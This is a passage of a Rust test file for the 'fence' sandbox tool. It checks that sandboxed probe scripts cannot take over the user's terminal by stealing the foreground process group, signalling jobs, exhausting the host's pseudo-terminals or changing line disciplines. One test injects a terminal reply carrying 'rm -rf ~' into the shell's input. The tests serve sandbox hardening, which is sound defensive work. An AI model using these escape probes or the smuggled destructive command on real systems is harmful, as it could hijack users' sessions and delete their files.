/// the sandbox (the user's shell, an editor): the sandbox turns O_ASYNC on with the
/// terminal, in every way it may (`ioctl(FIOASYNC)`, `F_SETFL` with and without
/// `O_APPEND`), and chooses SIGTERM with `F_SETSIG`. The terminal then sends its signals
/// to its foreground process group; typed input must not end that job. Without Landlock's
/// signal scope (below ABI 6) nothing else would stop it. Checked on the foreground job
/// itself, from outside.
fn a_terminals_signals_never_reach_the_foreground_job_outside(w: &World) {
    let (mut master, slave_path) = host_pty();
    w.own(Path::new(&slave_path));
    let open_slave = || open_terminal(&slave_path);
    let shown = show_terminal(&master);
    w.write(
        "probe.py",
        r#"import fcntl, os, signal, termios, time
fcntl.fcntl(0, 10, signal.SIGTERM)  # F_SETSIG
for turn_on in [
    lambda: fcntl.ioctl(0, termios.FIOASYNC, b'\x01\x00\x00\x00'),
    lambda: fcntl.fcntl(0, fcntl.F_SETFL, fcntl.fcntl(0, fcntl.F_GETFL) | os.O_ASYNC),
    lambda: fcntl.fcntl(0, fcntl.F_SETFL, os.O_ASYNC | os.O_APPEND),
]:
    try:
        turn_on()
    except OSError:
        pass
open('ready', 'w').close()
for _ in range(100):
    if os.path.exists('go'):
        break
    time.sleep(0.1)
"#,
    );
    let pids = w.outside.join("foreground-pid");
    let leader = w.outside.join("leader.py");
    std::fs::write(
        &leader,
        r#"import os, signal, subprocess, sys
signal.signal(signal.SIGTTOU, signal.SIG_IGN)
job = subprocess.Popen(['sleep', '60'], preexec_fn=os.setpgrp)
os.tcsetpgrp(0, job.pid)
with open(sys.argv[1] + '.tmp', 'w') as f:
    f.write(str(job.pid))
os.rename(sys.argv[1] + '.tmp', sys.argv[1])
fence = subprocess.Popen(sys.argv[2:], preexec_fn=os.setpgrp)
sys.exit(fence.wait() & 0xff)
"#,
    )
    .unwrap();
    w.own(&w.outside);
    let mut session = w.command_as_runner(PYTHON);
    session
        .arg(&leader)
        .arg(&pids)
        .arg(support::fence_binary())
        .args(["run", "--", PYTHON, "probe.py"]);
    if let Some(cap) = std::env::var_os("FENCE_LANDLOCK_ABI_MAX") {
        session.env("FENCE_LANDLOCK_ABI_MAX", cap);
    }
    lead_a_session_on_terminal(&mut session, &open_slave);
    let mut child = session.spawn().unwrap();
    wait_for_file(w, &mut child, "ready");
    let job: i32 = std::fs::read_to_string(&pids)
        .unwrap_or_default()
        .trim()
        .parse()
        .unwrap_or(0);
    std::io::Write::write_all(&mut master, b"typed\n").unwrap();
    std::thread::sleep(Duration::from_millis(300));
    let job_alive = job > 0 && alive(job);
    w.write("go", "");
    let status = child.wait().unwrap();
    if job > 0 {
        // SAFETY: kill of the job this test's session started.
        unsafe { libc::kill(job, libc::SIGKILL) };
    }
    assert!(job > 0, "the session did not start its foreground job");
    assert!(
        job_alive,
        "the foreground job outside the sandbox was ended by the terminal's signal: {}",
        String::from_utf8_lossy(&shown.lock().unwrap())
    );
    assert_eq!(
        status.code(),
        Some(0),
        "the session did not run to its end: {status:?} {}",
        String::from_utf8_lossy(&shown.lock().unwrap())
    );
}

/// Each terminal the sandbox is handed gets its settings back: stdin on one terminal,
/// stderr on another, a third passed with `--pass-fd`. The sandbox turns echo and
/// canonical mode off on each, changes the interrupt character and makes the passed one
/// non-blocking; after fence returns, each is as it was (checked on the terminals).
fn every_terminal_handed_to_the_sandbox_gets_its_settings_back(w: &World) {
    use std::os::unix::fs::OpenOptionsExt;
    use std::os::unix::process::CommandExt;
    let open = |path: &str| {
        std::fs::OpenOptions::new()
            .read(true)
            .write(true)
            .custom_flags(libc::O_NOCTTY)
            .open(path)
            .unwrap()
    };
    let terminals: Vec<(std::fs::File, String)> = (0..3).map(|_| host_pty()).collect();
    for (_, path) in &terminals {
        w.own(Path::new(path));
    }
    let _shown: Vec<_> = terminals.iter().map(|(m, _)| show_terminal(m)).collect();
    let settings = |f: &std::fs::File| {
        // SAFETY: termios is plain data; tcgetattr fills it for a terminal.
        let mut t: libc::termios = unsafe { std::mem::zeroed() };
        assert_eq!(unsafe { libc::tcgetattr(f.as_raw_fd(), &mut t) }, 0);
        (t.c_lflag, t.c_cc[libc::VINTR])
    };
    let slaves: Vec<std::fs::File> = terminals.iter().map(|(_, p)| open(p)).collect();
    let before: Vec<_> = slaves.iter().map(settings).collect();
    let passed = open(&terminals[2].1);
    let passed_flags = unsafe { libc::fcntl(passed.as_raw_fd(), libc::F_GETFL) };
    w.write(
        "probe.py",
        r#"import fcntl, os, termios
for fd in (0, 2, 7):
    t = termios.tcgetattr(fd)
    t[3] &= ~(termios.ECHO | termios.ICANON)
    t[6][termios.VINTR] = b'a'
    termios.tcsetattr(fd, termios.TCSANOW, t)
fcntl.fcntl(7, fcntl.F_SETFL, fcntl.fcntl(7, fcntl.F_GETFL) | os.O_NONBLOCK)
print('changed', flush=True)
"#,
    );
    let mut cmd = w.fence(&[
        "--pass-fd".as_ref(),
        "7".as_ref(),
        "--".as_ref(),
        PYTHON.as_ref(),
        "probe.py".as_ref(),
    ]);
    cmd.stdin(Stdio::from(open(&terminals[0].1)))
        .stdout(Stdio::piped())
        .stderr(Stdio::from(open(&terminals[1].1)));
    let raw = passed.as_raw_fd();
    // SAFETY: dup2 in the child between fork and exec, onto descriptor 7.
    unsafe {
        cmd.pre_exec(move || {
            if libc::dup2(raw, 7) < 0 {
                return Err(std::io::Error::last_os_error());
            }
            Ok(())
        });
    }
    let out = cmd.output().unwrap();
    assert_eq!(stdout(&out), "changed\n");
    let after: Vec<_> = slaves.iter().map(settings).collect();
    let flags_after = unsafe { libc::fcntl(passed.as_raw_fd(), libc::F_GETFL) };
    assert_eq!(after, before, "a terminal kept the sandbox's settings");
    assert_eq!(
        flags_after, passed_flags,
        "the passed terminal was left non-blocking"
    );
}

/// The session's terminal is the user's: a line discipline (N_NULL swallows everything)
/// or exclusive mode (every later open fails with EBUSY) set from inside would outlast
/// fence.
/// fence's resident memory in kB (`VmRSS`).
fn resident_kb(pid: u32) -> u64 {
    std::fs::read_to_string(format!("/proc/{pid}/status"))
        .unwrap()
        .lines()
        .find_map(|l| l.strip_prefix("VmRSS:"))
        .and_then(|v| v.split_whitespace().next())
        .and_then(|v| v.parse().ok())
        .unwrap()
}

/// Every refusal is a transcript line on fence's stderr, written by a thread of its own.
/// When nobody reads that stderr (a full pipe, a pager not scrolled), the lines waiting for
/// it are bounded: a sandbox refused thousands of calls a second grew fence's memory
/// without end. 6,000 refusals of 3 kB paths (18 MB of lines) while stderr does not drain.
fn refusals_while_fences_stderr_does_not_drain_do_not_grow_fence(w: &World) {
    let test = "refusals_while_fences_stderr_does_not_drain_do_not_grow_fence";
    if !python_ready(test) {
        return;
    }
    let outside = w.outside.join("d".repeat(200));
    w.write(
        "spam.py",
        &format!(
            "import os, time\n\
             open('started', 'w').close()\n\
             while not os.path.exists('measured'):\n\
             \x20   time.sleep(0.02)\n\
             for i in range(6000):\n\
             \x20   try:\n\
             \x20       os.open('{outside}/' + str(i) + 'x' * 3000, os.O_WRONLY | os.O_CREAT, 0o644)\n\
             \x20   except OSError:\n\
             \x20       pass\n\
             open('done', 'w').close()\n\
             while not os.path.exists('go'):\n\
             \x20   time.sleep(0.02)\n",
            outside = outside.display()
        ),
    );
    let mut child = w
        .fence(&["--".as_ref(), PYTHON.as_ref(), "spam.py".as_ref()])
        .stdout(Stdio::null())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let fence = child.id();
    let wait_for = |name: &str, child: &mut std::process::Child| {
        let deadline = Instant::now() + Duration::from_secs(120);
        while !w.worktree.join(name).exists() {
            if Instant::now() > deadline || child.try_wait().unwrap().is_some() {
                let status = child.try_wait().ok().flatten();
                // What fence wrote, from its undrained stderr (without waiting for more).
                let mut said = Vec::new();
                if let Some(mut err) = child.stderr.take() {
                    // SAFETY: F_SETFL on the pipe's read end we own.
                    unsafe { libc::fcntl(err.as_raw_fd(), libc::F_SETFL, libc::O_NONBLOCK) };
                    let _ = std::io::Read::read_to_end(&mut err, &mut said);
                }
                let _ = child.kill();
                let said = String::from_utf8_lossy(&said);
                let tail = &said[said.floor_char_boundary(said.len().saturating_sub(3000))..];
                panic!(
                    "the sandboxed program never wrote `{name}` (fence: {status:?}); the end of what fence wrote: {tail}"
                );
            }
            std::thread::sleep(Duration::from_millis(20));
        }
    };
    wait_for("started", &mut child);
    let before = resident_kb(fence);
    w.write("measured", "");
    wait_for("done", &mut child);
    let after = resident_kb(fence);
    w.write("go", "");
    let out = child.wait_with_output().unwrap();
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(
        after < before + 12 * 1024,
        "fence grew from {before} kB to {after} kB while its stderr did not drain"
    );
}

/// Pseudo-terminals come from a devpts of the sandbox's own or not at all: the host's
/// `/dev/ptmx` (without a mount namespace) hands out the machine's, every one of them to a
/// sandbox opening it in a loop, after which no terminal, ssh login or tmux pane of the
/// user's can be made while the session lives. Checked from outside on the sandbox's
/// descriptors: none is a terminal master of the host's.
fn the_hosts_pseudo_terminals_cannot_be_taken(w: &World) {
    if !support::python_ready("the_hosts_pseudo_terminals_cannot_be_taken") {
        return;
    }
    w.write(
        "take.py",
        "import os, time\n\
         held = []\n\
         for i in range(16):\n\
         \x20   try:\n\
         \x20       held.append(os.open('/dev/ptmx', os.O_RDWR | os.O_NOCTTY))\n\
         \x20   except OSError:\n\
         \x20       pass\n\
         open('ready', 'w').write(str(len(held)))\n\
         for i in range(400):\n\
         \x20   if os.path.exists('go'):\n\
         \x20       break\n\
         \x20   time.sleep(0.05)\n",
    );
    let mut child = w
        .fence(&[OsStr::new("--"), OsStr::new(PYTHON), OsStr::new("take.py")])
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    wait_for_file(w, &mut child, "ready");
    let taker = process_ids().find(|p| {
        std::fs::read_link(format!("/proc/{p}/cwd")).is_ok_and(|c| c == w.worktree)
            && std::fs::read(format!("/proc/{p}/cmdline"))
                .is_ok_and(|c| c.windows(8).any(|x| x == b"take.py\0"))
            && std::fs::read(format!("/proc/{p}/cmdline"))
                .is_ok_and(|c| c.starts_with(PYTHON.as_bytes()))
    });
    // The host's multiplexers: /dev/ptmx itself and its devpts's ptmx.
    let host: Vec<u64> = ["/dev/ptmx", "/dev/pts/ptmx"]
        .iter()
        .filter_map(|p| std::fs::metadata(p).ok())
        .map(|m| m.dev())
        .collect();
    let host_masters = taker.as_ref().map(|pid| {
        std::fs::read_dir(format!("/proc/{pid}/fd"))
            .into_iter()
            .flatten()
            .flatten()
            .filter_map(|fd| std::fs::metadata(fd.path()).ok())
            .filter(|m| {
                m.file_type().is_char_device()
                    && m.rdev() == libc::makedev(5, 2)
                    && host.contains(&m.dev())
            })
            .count()
    });
    w.write("go", "");
    let out = child.wait_with_output().unwrap();
    assert!(out.status.success(), "{}", stderr(&out));
    let host_masters = host_masters.expect("the sandbox's process was not found");
    assert_eq!(
        host_masters, 0,
        "the sandbox holds the host's pseudo-terminals"
    );
}

fn the_users_terminal_keeps_its_line_discipline_and_open_mode(w: &World) {
    use std::os::unix::fs::OpenOptionsExt;
    let (master, slave_path) = host_pty();
    w.own(Path::new(&slave_path));
    let open_slave = || open_terminal(&slave_path);
    let slave = open_slave();
    w.write(
        "probe.py",
        "import fcntl, termios, struct\n\
         for name, req, arg in [('setd', termios.TIOCSETD, struct.pack('i', 27)), ('excl', termios.TIOCEXCL, 0), ('flow', termios.TCXONC, termios.TCOOFF)]:\n\
         \x20   try:\n\
         \x20       fcntl.ioctl(0, req, arg)\n\
         \x20       print(name, 'passed')\n\
         \x20   except OSError as e:\n\
         \x20       print(name, e.errno)\n",
    );
    let args: Vec<&OsStr> = vec![OsStr::new("--"), OsStr::new(PYTHON), OsStr::new("probe.py")];
    let out = w
        .fence(&args)
        .stdin(Stdio::from(open_slave()))
        .stdout(Stdio::from(open_slave()))
        .stderr(Stdio::piped())
        .output()
        .unwrap();
    // Output the sandbox stopped takes nothing more (a non-blocking write gets EAGAIN).
    let probe = std::fs::OpenOptions::new()
        .write(true)
        .custom_flags(libc::O_NOCTTY | libc::O_NONBLOCK)
        .open(&slave_path);
    let writable = probe.is_ok_and(|mut f| std::io::Write::write(&mut f, b"x").is_ok());
    let mut discipline: libc::c_int = -1;
    let mut exclusive: libc::c_int = -1;
    // SAFETY: TIOCGETD and TIOCGEXCL write one int through valid pointers.
    unsafe {
        assert_eq!(
            libc::ioctl(slave.as_raw_fd(), libc::TIOCGETD, &mut discipline),
            0
        );
        assert_eq!(
            libc::ioctl(slave.as_raw_fd(), 0x8004_5440, &mut exclusive),
            0
        );
        // Put the terminal back for the rest of the test run, whatever happened.
        libc::ioctl(slave.as_raw_fd(), libc::TIOCSETD, &0 as *const libc::c_int);
        libc::ioctl(slave.as_raw_fd(), libc::TIOCNXCL);
        libc::ioctl(slave.as_raw_fd(), libc::TCXONC, libc::TCOON);
    }
    drop(master);
    assert_eq!(
        discipline,
        0,
        "the line discipline was changed: {}",
        stderr(&out)
    );
    assert_eq!(exclusive, 0, "exclusive mode was set: {}", stderr(&out));
    assert!(
        writable,
        "the terminal's output was stopped: {}",
        stderr(&out)
    );
}

/// What the terminal answers to a query the sandbox made (the cursor's position, the
/// window's title) and the sandbox left unread is not left for the user's shell to read as
/// typed once fence returns.
fn a_terminals_answers_to_the_sandbox_never_reach_the_shell(w: &World) {
    use std::os::unix::fs::OpenOptionsExt;
    let (master, slave_path) = host_pty();
    w.own(Path::new(&slave_path));
    let open_slave = || open_terminal(&slave_path);
    let mut answer = master.try_clone().unwrap();
    // The terminal's answer arrives while the sandbox runs, and nothing there reads it.
    w.write("ask.sh", "printf '\\033[6n'\nsleep 0.3\n");
    let mut child = w
        .fence(&["--".as_ref(), "/bin/sh".as_ref(), "ask.sh".as_ref()])
        .stdin(Stdio::from(open_slave()))
        .stdout(Stdio::from(open_slave()))
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    std::thread::sleep(std::time::Duration::from_millis(100));
    std::io::Write::write_all(&mut answer, b"\x1b[24;80Rrm -rf ~\n").unwrap();
    let status = child.wait().unwrap();
    assert!(status.success());
    let mut reader = std::fs::OpenOptions::new()
        .read(true)
        .custom_flags(libc::O_NOCTTY | libc::O_NONBLOCK)
        .open(&slave_path)
        .unwrap();
    let mut left = [0u8; 64];
    let read = std::io::Read::read(&mut reader, &mut left);
    drop(master);
    assert!(
        !matches!(read, Ok(n) if n > 0),
        "the shell would read {:?}",
        String::from_utf8_lossy(&left[..read.unwrap_or(0)])
    );
}

/// A sandboxed process that makes its own process group the terminal's foreground one,
/// turns `TOSTOP` on and makes fence write a line (a blocked write) does not stop fence (a
/// stopped fence gives the user's shell its prompt back while the sandbox, still the
/// terminal's foreground, reads what is typed); and the terminal's settings and
/// foreground group are what they were once fence returns. fence runs here as the session
/// leader of a pseudo-terminal, as a shell's job would run on the user's terminal.
fn the_sandbox_taking_the_terminal_neither_stops_fence_nor_keeps_it(w: &World) {
    let (master, slave_path) = host_pty();
    w.own(Path::new(&slave_path));
    let open_slave = || open_terminal(&slave_path);
    let slave = open_slave();
    // SAFETY: termios is plain data; tcgetattr fills it for a terminal descriptor.
    let before = unsafe {
        let mut t: libc::termios = std::mem::zeroed();
        assert_eq!(libc::tcgetattr(slave.as_raw_fd(), &mut t), 0);
        t
    };
    let victim = w.write_outside("victim.txt", "original");
    w.write(
        "take.py",
        &format!(
            "import os, signal, termios, time\n\
             signal.signal(signal.SIGTTOU, signal.SIG_IGN)\n\
             signal.signal(signal.SIGTTIN, signal.SIG_IGN)\n\
             os.setpgid(0, 0)\n\
             os.tcsetpgrp(0, os.getpgrp())\n\
             a = termios.tcgetattr(0)\n\
             a[3] = (a[3] | termios.TOSTOP) & ~termios.ECHO\n\
             a[6][termios.VINTR] = b'\\x01'\n\
             termios.tcsetattr(0, termios.TCSANOW, a)\n\
             try:\n\
             \x20   open({victim:?}, 'w')\n\
             except OSError:\n\
             \x20   pass\n\
             time.sleep(1)\n",
            victim = victim.display().to_string()
        ),
    );
    let shown = show_terminal(&master);
    // `shell -c script` as the leader of a session on the terminal, with fence and the
    // Python program as `$0` and `$1`; what the terminal showed once it returned, and its
    // settings then. On a terminal fence would ask a person by default: no one answers
    // here.
    let in_session = |shell: &[&str], script: &str, keys: Option<(&str, &[u8])>| {
        shown.lock().unwrap().clear();
        let mut command = w.command_as_runner(shell[0]);
        command
            .args(&shell[1..])
            .arg("-c")
            .arg(script)
            .arg(support::fence_binary())
            .arg(PYTHON);
        lead_a_session_on_terminal(&mut command, &open_slave);
        // `keys` are typed on the terminal once the sandbox has made the file named.
        let mut child = command.spawn().unwrap();
        let (mut keys, started) = (keys, Instant::now());
        let status = loop {
            if let Some(status) = child.try_wait().unwrap() {
                break Some(status);
            }
            if started.elapsed() > Duration::from_secs(30) {
                let _ = child.kill();
                let _ = child.wait();
                break None;
            }
            if let Some((file, bytes)) = keys
                && std::fs::metadata(w.worktree.join(file)).is_ok_and(|m| m.len() > 0)
            {
                std::io::Write::write_all(&mut &master, bytes).unwrap();
                keys = None;
            }
            std::thread::sleep(Duration::from_millis(10));
        };
        std::thread::sleep(Duration::from_millis(100));
        // SAFETY: termios is plain data; tcgetattr fills it for a terminal descriptor.
        let after = unsafe {
            let mut t: libc::termios = std::mem::zeroed();
            assert_eq!(libc::tcgetattr(slave.as_raw_fd(), &mut t), 0);
            t
        };
        let text = String::from_utf8_lossy(&shown.lock().unwrap()).into_owned();
        assert!(status.is_some_and(|s| s.success()), "{status:?}: {text}");
        (text, after)
    };
    // A shell with job control runs fence as a job of its own (a process group whose
    // parent is the shell, in the same session), as an interactive shell does: a fence
    // stopped by SIGTTOU is reported as a stopped job (and then killed).
    let (text, after) = in_session(
        &["bash"],
        "set -m; \"$0\" run --approver deny -- \"$1\" take.py; \
         echo; echo \"status $? stopped $(jobs -s | wc -l)\"; kill -9 %1 2>/dev/null; true",
        None,
    );
    assert!(
        text.lines().any(|l| l.trim() == "status 0 stopped 0"),
        "fence was stopped while the sandbox held the terminal: {text}"
    );
    assert_eq!(
        std::fs::read_to_string(&victim).unwrap(),
        "original",
        "the outside file changed"
    );
    for (name, (text, after)) in [
        ("a job of its own", (text, after)),
        // Without job control fence shares the shell's process group, which no shell
        // takes the terminal back for: fence puts its foreground group back itself.
        (
            "the caller's process group",
            in_session(
                &["sh"],
                "\"$0\" run --approver deny -- \"$1\" take.py; echo; \
                 echo \"foreground $(cut -d' ' -f8 /proc/$$/stat) own $(cut -d' ' -f5 /proc/$$/stat)\"",
                None,
            ),
        ),
    ] {
        assert_eq!(
            after.c_lflag & (libc::ECHO | libc::TOSTOP),
            before.c_lflag & (libc::ECHO | libc::TOSTOP),
            "{name}: echo or TOSTOP left changed: {text}"
        );
        assert_eq!(
            after.c_cc[libc::VINTR],
            before.c_cc[libc::VINTR],
            "{name}: intr left changed: {text}"
        );
        if let Some((foreground, own)) = text
            .lines()
            .find_map(|l| l.trim().strip_prefix("foreground "))
            .and_then(|l| l.split_once(" own "))
        {
            assert_eq!(
                foreground.trim(),
                own.trim(),
                "{name}: the terminal's foreground group is not the caller's any more: {text}"
            );
        } else {
            assert_eq!(name, "a job of its own", "no groups reported: {text}");
        }
    }
    // Ctrl-Z stops fence only once the whole sandbox is stopped: a process that ignores
    // SIGTSTP does not run on behind the shell's prompt (it would take the terminal's
    // foreground back and read what the user types to the shell); `fg` continues both.
    w.write(
        "tick.py",
        "import signal, time\n\
         signal.signal(signal.SIGTSTP, signal.SIG_IGN)\n\
         t0 = time.time()\n\
         with open('ticks', 'a') as f:\n\
         \x20   while time.time() - t0 < 3:\n\
         \x20       f.write('t')\n\
         \x20       f.flush()\n\
         \x20       time.sleep(0.02)\n\
         print('ticked')\n",
    );
    // An interactive shell on the terminal, as at a prompt: the test types the commands.
    shown.lock().unwrap().clear();
    let fence = support::fence_binary();
    let mut shell = bash_on_terminal(w, &open_slave, &[("F", fence.as_os_str())]);
    let ticks = w.worktree.join("ticks");
    let size = || std::fs::metadata(&ticks).map_or(0, |m| m.len());
    let typed = |bytes: &[u8]| std::io::Write::write_all(&mut &master, bytes).unwrap();
    // A line typed before the shell has set up job control runs without it.
    let started = Instant::now();
    while !String::from_utf8_lossy(&shown.lock().unwrap()).contains("bash-")
        && started.elapsed() < Duration::from_secs(20)
    {
        std::thread::sleep(Duration::from_millis(10));
    }
    typed(
        format!("\"$F\" run --approver deny -- {PYTHON} tick.py; echo \"status $?\"\n").as_bytes(),
    );
    let started = Instant::now();
    while size() == 0 && started.elapsed() < Duration::from_secs(20) {
        std::thread::sleep(Duration::from_millis(10));
    }
    typed(b"\x1a");
    std::thread::sleep(Duration::from_millis(500));
    let (a, b) = (size(), {
        std::thread::sleep(Duration::from_millis(500));
        size()
    });
    typed(b"fg\n");
    let resumed = Instant::now();
    while !String::from_utf8_lossy(&shown.lock().unwrap()).contains("ticked")
        && resumed.elapsed() < Duration::from_secs(20)
    {
        std::thread::sleep(Duration::from_millis(20));
    }
    typed(b"exit\n");
    let _ = shell.kill();
    let _ = shell.wait();
    let text = String::from_utf8_lossy(&shown.lock().unwrap()).into_owned();
    assert!(
        text.contains("Stopped"),
        "fence did not stop on Ctrl-Z: {text}"
    );
    assert!(
        a > 0 && a == b,
        "the sandbox ran while fence was stopped ({a} then {b} bytes): {text}"
    );
    assert!(
        text.contains("ticked"),
        "fg did not finish the session: {text}"
    );
}

/// A session stopped with Ctrl-Z and sent on with `bg` ends while the user's shell holds
/// the terminal: fence leaves the terminal to the shell (taking it back for its own
/// group, about to vanish, made the shell's next read fail and ended the shell), and
/// the shell reads the next line as usual.
fn a_session_sent_to_the_background_leaves_the_shell_its_terminal(w: &World) {
    let (master, slave_path) = host_pty();
    w.own(Path::new(&slave_path));
    let open_slave = || open_terminal(&slave_path);
    let shown = show_terminal(&master);
    let fence = support::fence_binary();
    let mut shell = bash_on_terminal(w, &open_slave, &[("F", fence.as_os_str())]);
    let typed = |bytes: &[u8]| std::io::Write::write_all(&mut &master, bytes).unwrap();
    let wait_for = |what: &str, secs: u64| {
        let started = Instant::now();
        while !String::from_utf8_lossy(&shown.lock().unwrap()).contains(what)
            && started.elapsed() < Duration::from_secs(secs)
        {
            std::thread::sleep(Duration::from_millis(20));
        }
    };
    wait_for("bash-", 20);
    typed(b"\"$F\" run --approver deny -- sh -c 'touch started; sleep 2'\n");
    let started = Instant::now();
    while !w.worktree.join("started").exists() && started.elapsed() < Duration::from_secs(20) {
        std::thread::sleep(Duration::from_millis(20));
    }
    typed(b"\x1a");
    wait_for("Stopped", 10);
    typed(b"bg\n");
    // The session ends in the background; the shell then reads the next line.
    std::thread::sleep(Duration::from_secs(4));
    typed(b"echo alive-$((40+2))\n");
    wait_for("alive-42", 10);
    let shell_ran_on = shell.try_wait().unwrap().is_none();
    typed(b"exit\n");
    let _ = shell.kill();
    let _ = shell.wait();
    let text = String::from_utf8_lossy(&shown.lock().unwrap()).into_owned();
    assert!(
        text.contains("Stopped"),
        "fence did not stop on Ctrl-Z: {text}"
    );
    assert!(
        shell_ran_on && text.contains("alive-42"),
        "the shell lost its terminal when the session ended in the background: {text}"
    );
}

/// Ctrl-Z, `bg`, then `fg`: bash's `fg` of a job that runs gives it the terminal without a
/// SIGCONT. The sandbox, in front again, sets the terminal up as before (a `vim` or a
/// readline in it works again); in the background it could not.
fn a_session_brought_back_with_fg_may_set_up_the_terminal_again(w: &World) {
    let (master, slave_path) = host_pty();
    w.own(Path::new(&slave_path));
    let open_slave = || open_terminal(&slave_path);
    let shown = show_terminal(&master);
    w.write(
        "modes.py",
        r#"import termios, time
with open('modes', 'a') as log:
    for _ in range(60):
        try:
            termios.tcsetattr(1, termios.TCSANOW, termios.tcgetattr(1))
            log.write('ok\n')
        except termios.error:
            log.write('refused\n')
        log.flush()
        time.sleep(0.1)
"#,
    );
    let fence = support::fence_binary();
    let mut shell = bash_on_terminal(w, &open_slave, &[("F", fence.as_os_str())]);
    let typed = |bytes: &[u8]| std::io::Write::write_all(&mut &master, bytes).unwrap();
    let wait_for = |what: &str, secs: u64| {
        let started = Instant::now();
        while !String::from_utf8_lossy(&shown.lock().unwrap()).contains(what)
            && started.elapsed() < Duration::from_secs(secs)
        {
            std::thread::sleep(Duration::from_millis(20));
        }
    };
    let log = w.worktree.join("modes");
    let lines = || std::fs::read_to_string(&log).unwrap_or_default();
    wait_for("bash-", 20);
    typed(format!("\"$F\" run --approver deny -- {PYTHON} modes.py 2>/dev/null\n").as_bytes());
    let started = Instant::now();
    while !lines().contains("ok") && started.elapsed() < Duration::from_secs(20) {
        std::thread::sleep(Duration::from_millis(20));
    }
    typed(b"\x1a");
    wait_for("Stopped", 10);
    typed(b"bg\n");
    std::thread::sleep(Duration::from_millis(800));
    let in_background = lines().len();
    typed(b"fg\n");
    std::thread::sleep(Duration::from_millis(1200));
    let after_fg = lines()[in_background..].to_string();
    typed(b"\x03");
    typed(b"exit\n");
    let _ = shell.kill();
    let _ = shell.wait();
    let text = String::from_utf8_lossy(&shown.lock().unwrap()).into_owned();
    let background = lines()[..in_background].to_string();
    assert!(
        background.contains("refused"),
        "the sandbox set the terminal up in the background: {background} {text}"
    );
    assert!(
        after_fg.lines().last() == Some("ok"),
        "the sandbox, in front again with fg, could not set the terminal up: {after_fg} {text}"
    );
}

/// fence started in the background (`&`) at an interactive shell: a sandboxed process that
/// ignores SIGTTOU tries to make its own process group the terminal's foreground one, which
/// the kernel allows. That would take the terminal from the shell (its next read fails and
/// it ends) and hand the sandbox what the user types. Refused; the shell reads on.
fn a_background_session_cannot_take_the_terminal_from_the_shell(w: &World) {
    background_session_tries_the_terminal(
        w,
        &format!("\"$F\" run --approver deny -- {PYTHON} grab.py 2>/dev/null & sleep 3"),
    );
    // Started in the background by a shell without job control, in the group of a job
    // of the user's shell that holds the terminal at first and ends a moment later.
    std::fs::remove_file(w.worktree.join("grabbed")).unwrap();
    background_session_tries_the_terminal(
        w,
        &format!(
            "sh -c '\"$F\" run --approver deny -- {PYTHON} grab.py 2>/dev/null & sleep 0.3'; sleep 3"
        ),
    );
}

/// Types `line` at an interactive shell on a terminal of its own; the line starts fence
/// with `grab.py` and runs `sleep 3` in the foreground meanwhile.
fn background_session_tries_the_terminal(w: &World, line: &str) {
    let (master, slave_path) = host_pty();
    w.own(Path::new(&slave_path));
    let open_slave = || open_terminal(&slave_path);
    let shown = show_terminal(&master);
    w.write(
        "grab.py",
        r#"import os, signal, termios, time
signal.signal(signal.SIGTTOU, signal.SIG_IGN)
time.sleep(1)
said = []
try:
    t = termios.tcgetattr(1)
    t[6][termios.VINTR] = b'a'
    termios.tcsetattr(1, termios.TCSANOW, t)
    said.append('settings changed')
except termios.error as e:
    said.append('settings refused %s' % e.args[0])
os.setpgid(0, 0)
try:
    os.tcsetpgrp(1, os.getpgrp())
    said.append('taken')
except OSError as e:
    said.append('refused %d' % e.errno)
# Without a pid namespace the shell's group can be named: joining it would put this
# process in the terminal's foreground whenever the shell is.
joined = False
try:
    shell = os.tcgetpgrp(1)
    if shell > 0:
        os.setpgid(0, shell)
        joined = True
        said.append('joined')
except OSError as e:
    said.append('join refused %d' % e.errno)
with open('grabbed.tmp', 'w') as f:
    f.write(', '.join(said))
os.rename('grabbed.tmp', 'grabbed')
if joined:
    time.sleep(6)
"#,
    );
    let fence = support::fence_binary();
    let mut shell = bash_on_terminal(w, &open_slave, &[("F", fence.as_os_str())]);
    let typed = |bytes: &[u8]| std::io::Write::write_all(&mut &master, bytes).unwrap();
    let wait_for = |what: &str, secs: u64| {
        let started = Instant::now();
        while !String::from_utf8_lossy(&shown.lock().unwrap()).contains(what)
            && started.elapsed() < Duration::from_secs(secs)
        {
            std::thread::sleep(Duration::from_millis(20));
        }
    };
    wait_for("bash-", 20);
    // The shell runs a job in the foreground meanwhile: what a program leaves on the
    // terminal then, the shell keeps as its own when the job ends.
    typed(format!("{line}\n").as_bytes());
    let grabbed = w.worktree.join("grabbed");
    let started = Instant::now();
    while !grabbed.exists() && started.elapsed() < Duration::from_secs(20) {
        std::thread::sleep(Duration::from_millis(20));
    }
    // The shell's foreground job (`sleep 3`) has a process group of its own: any other
    // process in it is an intruder.
    let stat = |pid: i32| -> Option<(String, i32, i32)> {
        let st = std::fs::read_to_string(format!("/proc/{pid}/stat")).ok()?;
        let (head, rest) = st.rsplit_once(')')?;
        let comm = head.split_once('(')?.1.to_string();
        let mut f = rest.split_ascii_whitespace().skip(1);
        Some((comm, f.next()?.parse().ok()?, f.next()?.parse().ok()?))
    };
    let all: Vec<(i32, (String, i32, i32))> = std::fs::read_dir("/proc")
        .unwrap()
        .filter_map(|e| e.ok()?.file_name().to_str()?.parse::<i32>().ok())
        .filter_map(|pid| Some((pid, stat(pid)?)))
        .collect();
    let job_group = all
        .iter()
        .find(|(_, (comm, ppid, _))| comm == "sleep" && *ppid == shell.id() as i32)
        .map(|(_, (_, _, pgrp))| *pgrp);
    let intruders: Vec<i32> = all
        .iter()
        .filter(|(_, (comm, _, pgrp))| Some(*pgrp) == job_group && comm != "sleep")
        .map(|(pid, _)| *pid)
        .collect();
    std::thread::sleep(Duration::from_secs(3));
    typed(b"echo alive-$((40+2))\n");
    wait_for("alive-42", 10);
    let shell_ran_on = shell.try_wait().unwrap().is_none();
    let slave = open_slave();
    // SAFETY: termios is plain data; tcgetattr fills it for a terminal.
    let mut now: libc::termios = unsafe { std::mem::zeroed() };
    assert_eq!(unsafe { libc::tcgetattr(slave.as_raw_fd(), &mut now) }, 0);
    typed(b"exit\n");
    let _ = shell.kill();
    let _ = shell.wait();
    let text = String::from_utf8_lossy(&shown.lock().unwrap()).into_owned();
    assert!(
        grabbed.exists(),
        "the sandboxed program did not run: {text}"
    );
    let said = std::fs::read_to_string(&grabbed).unwrap_or_default();
    assert!(
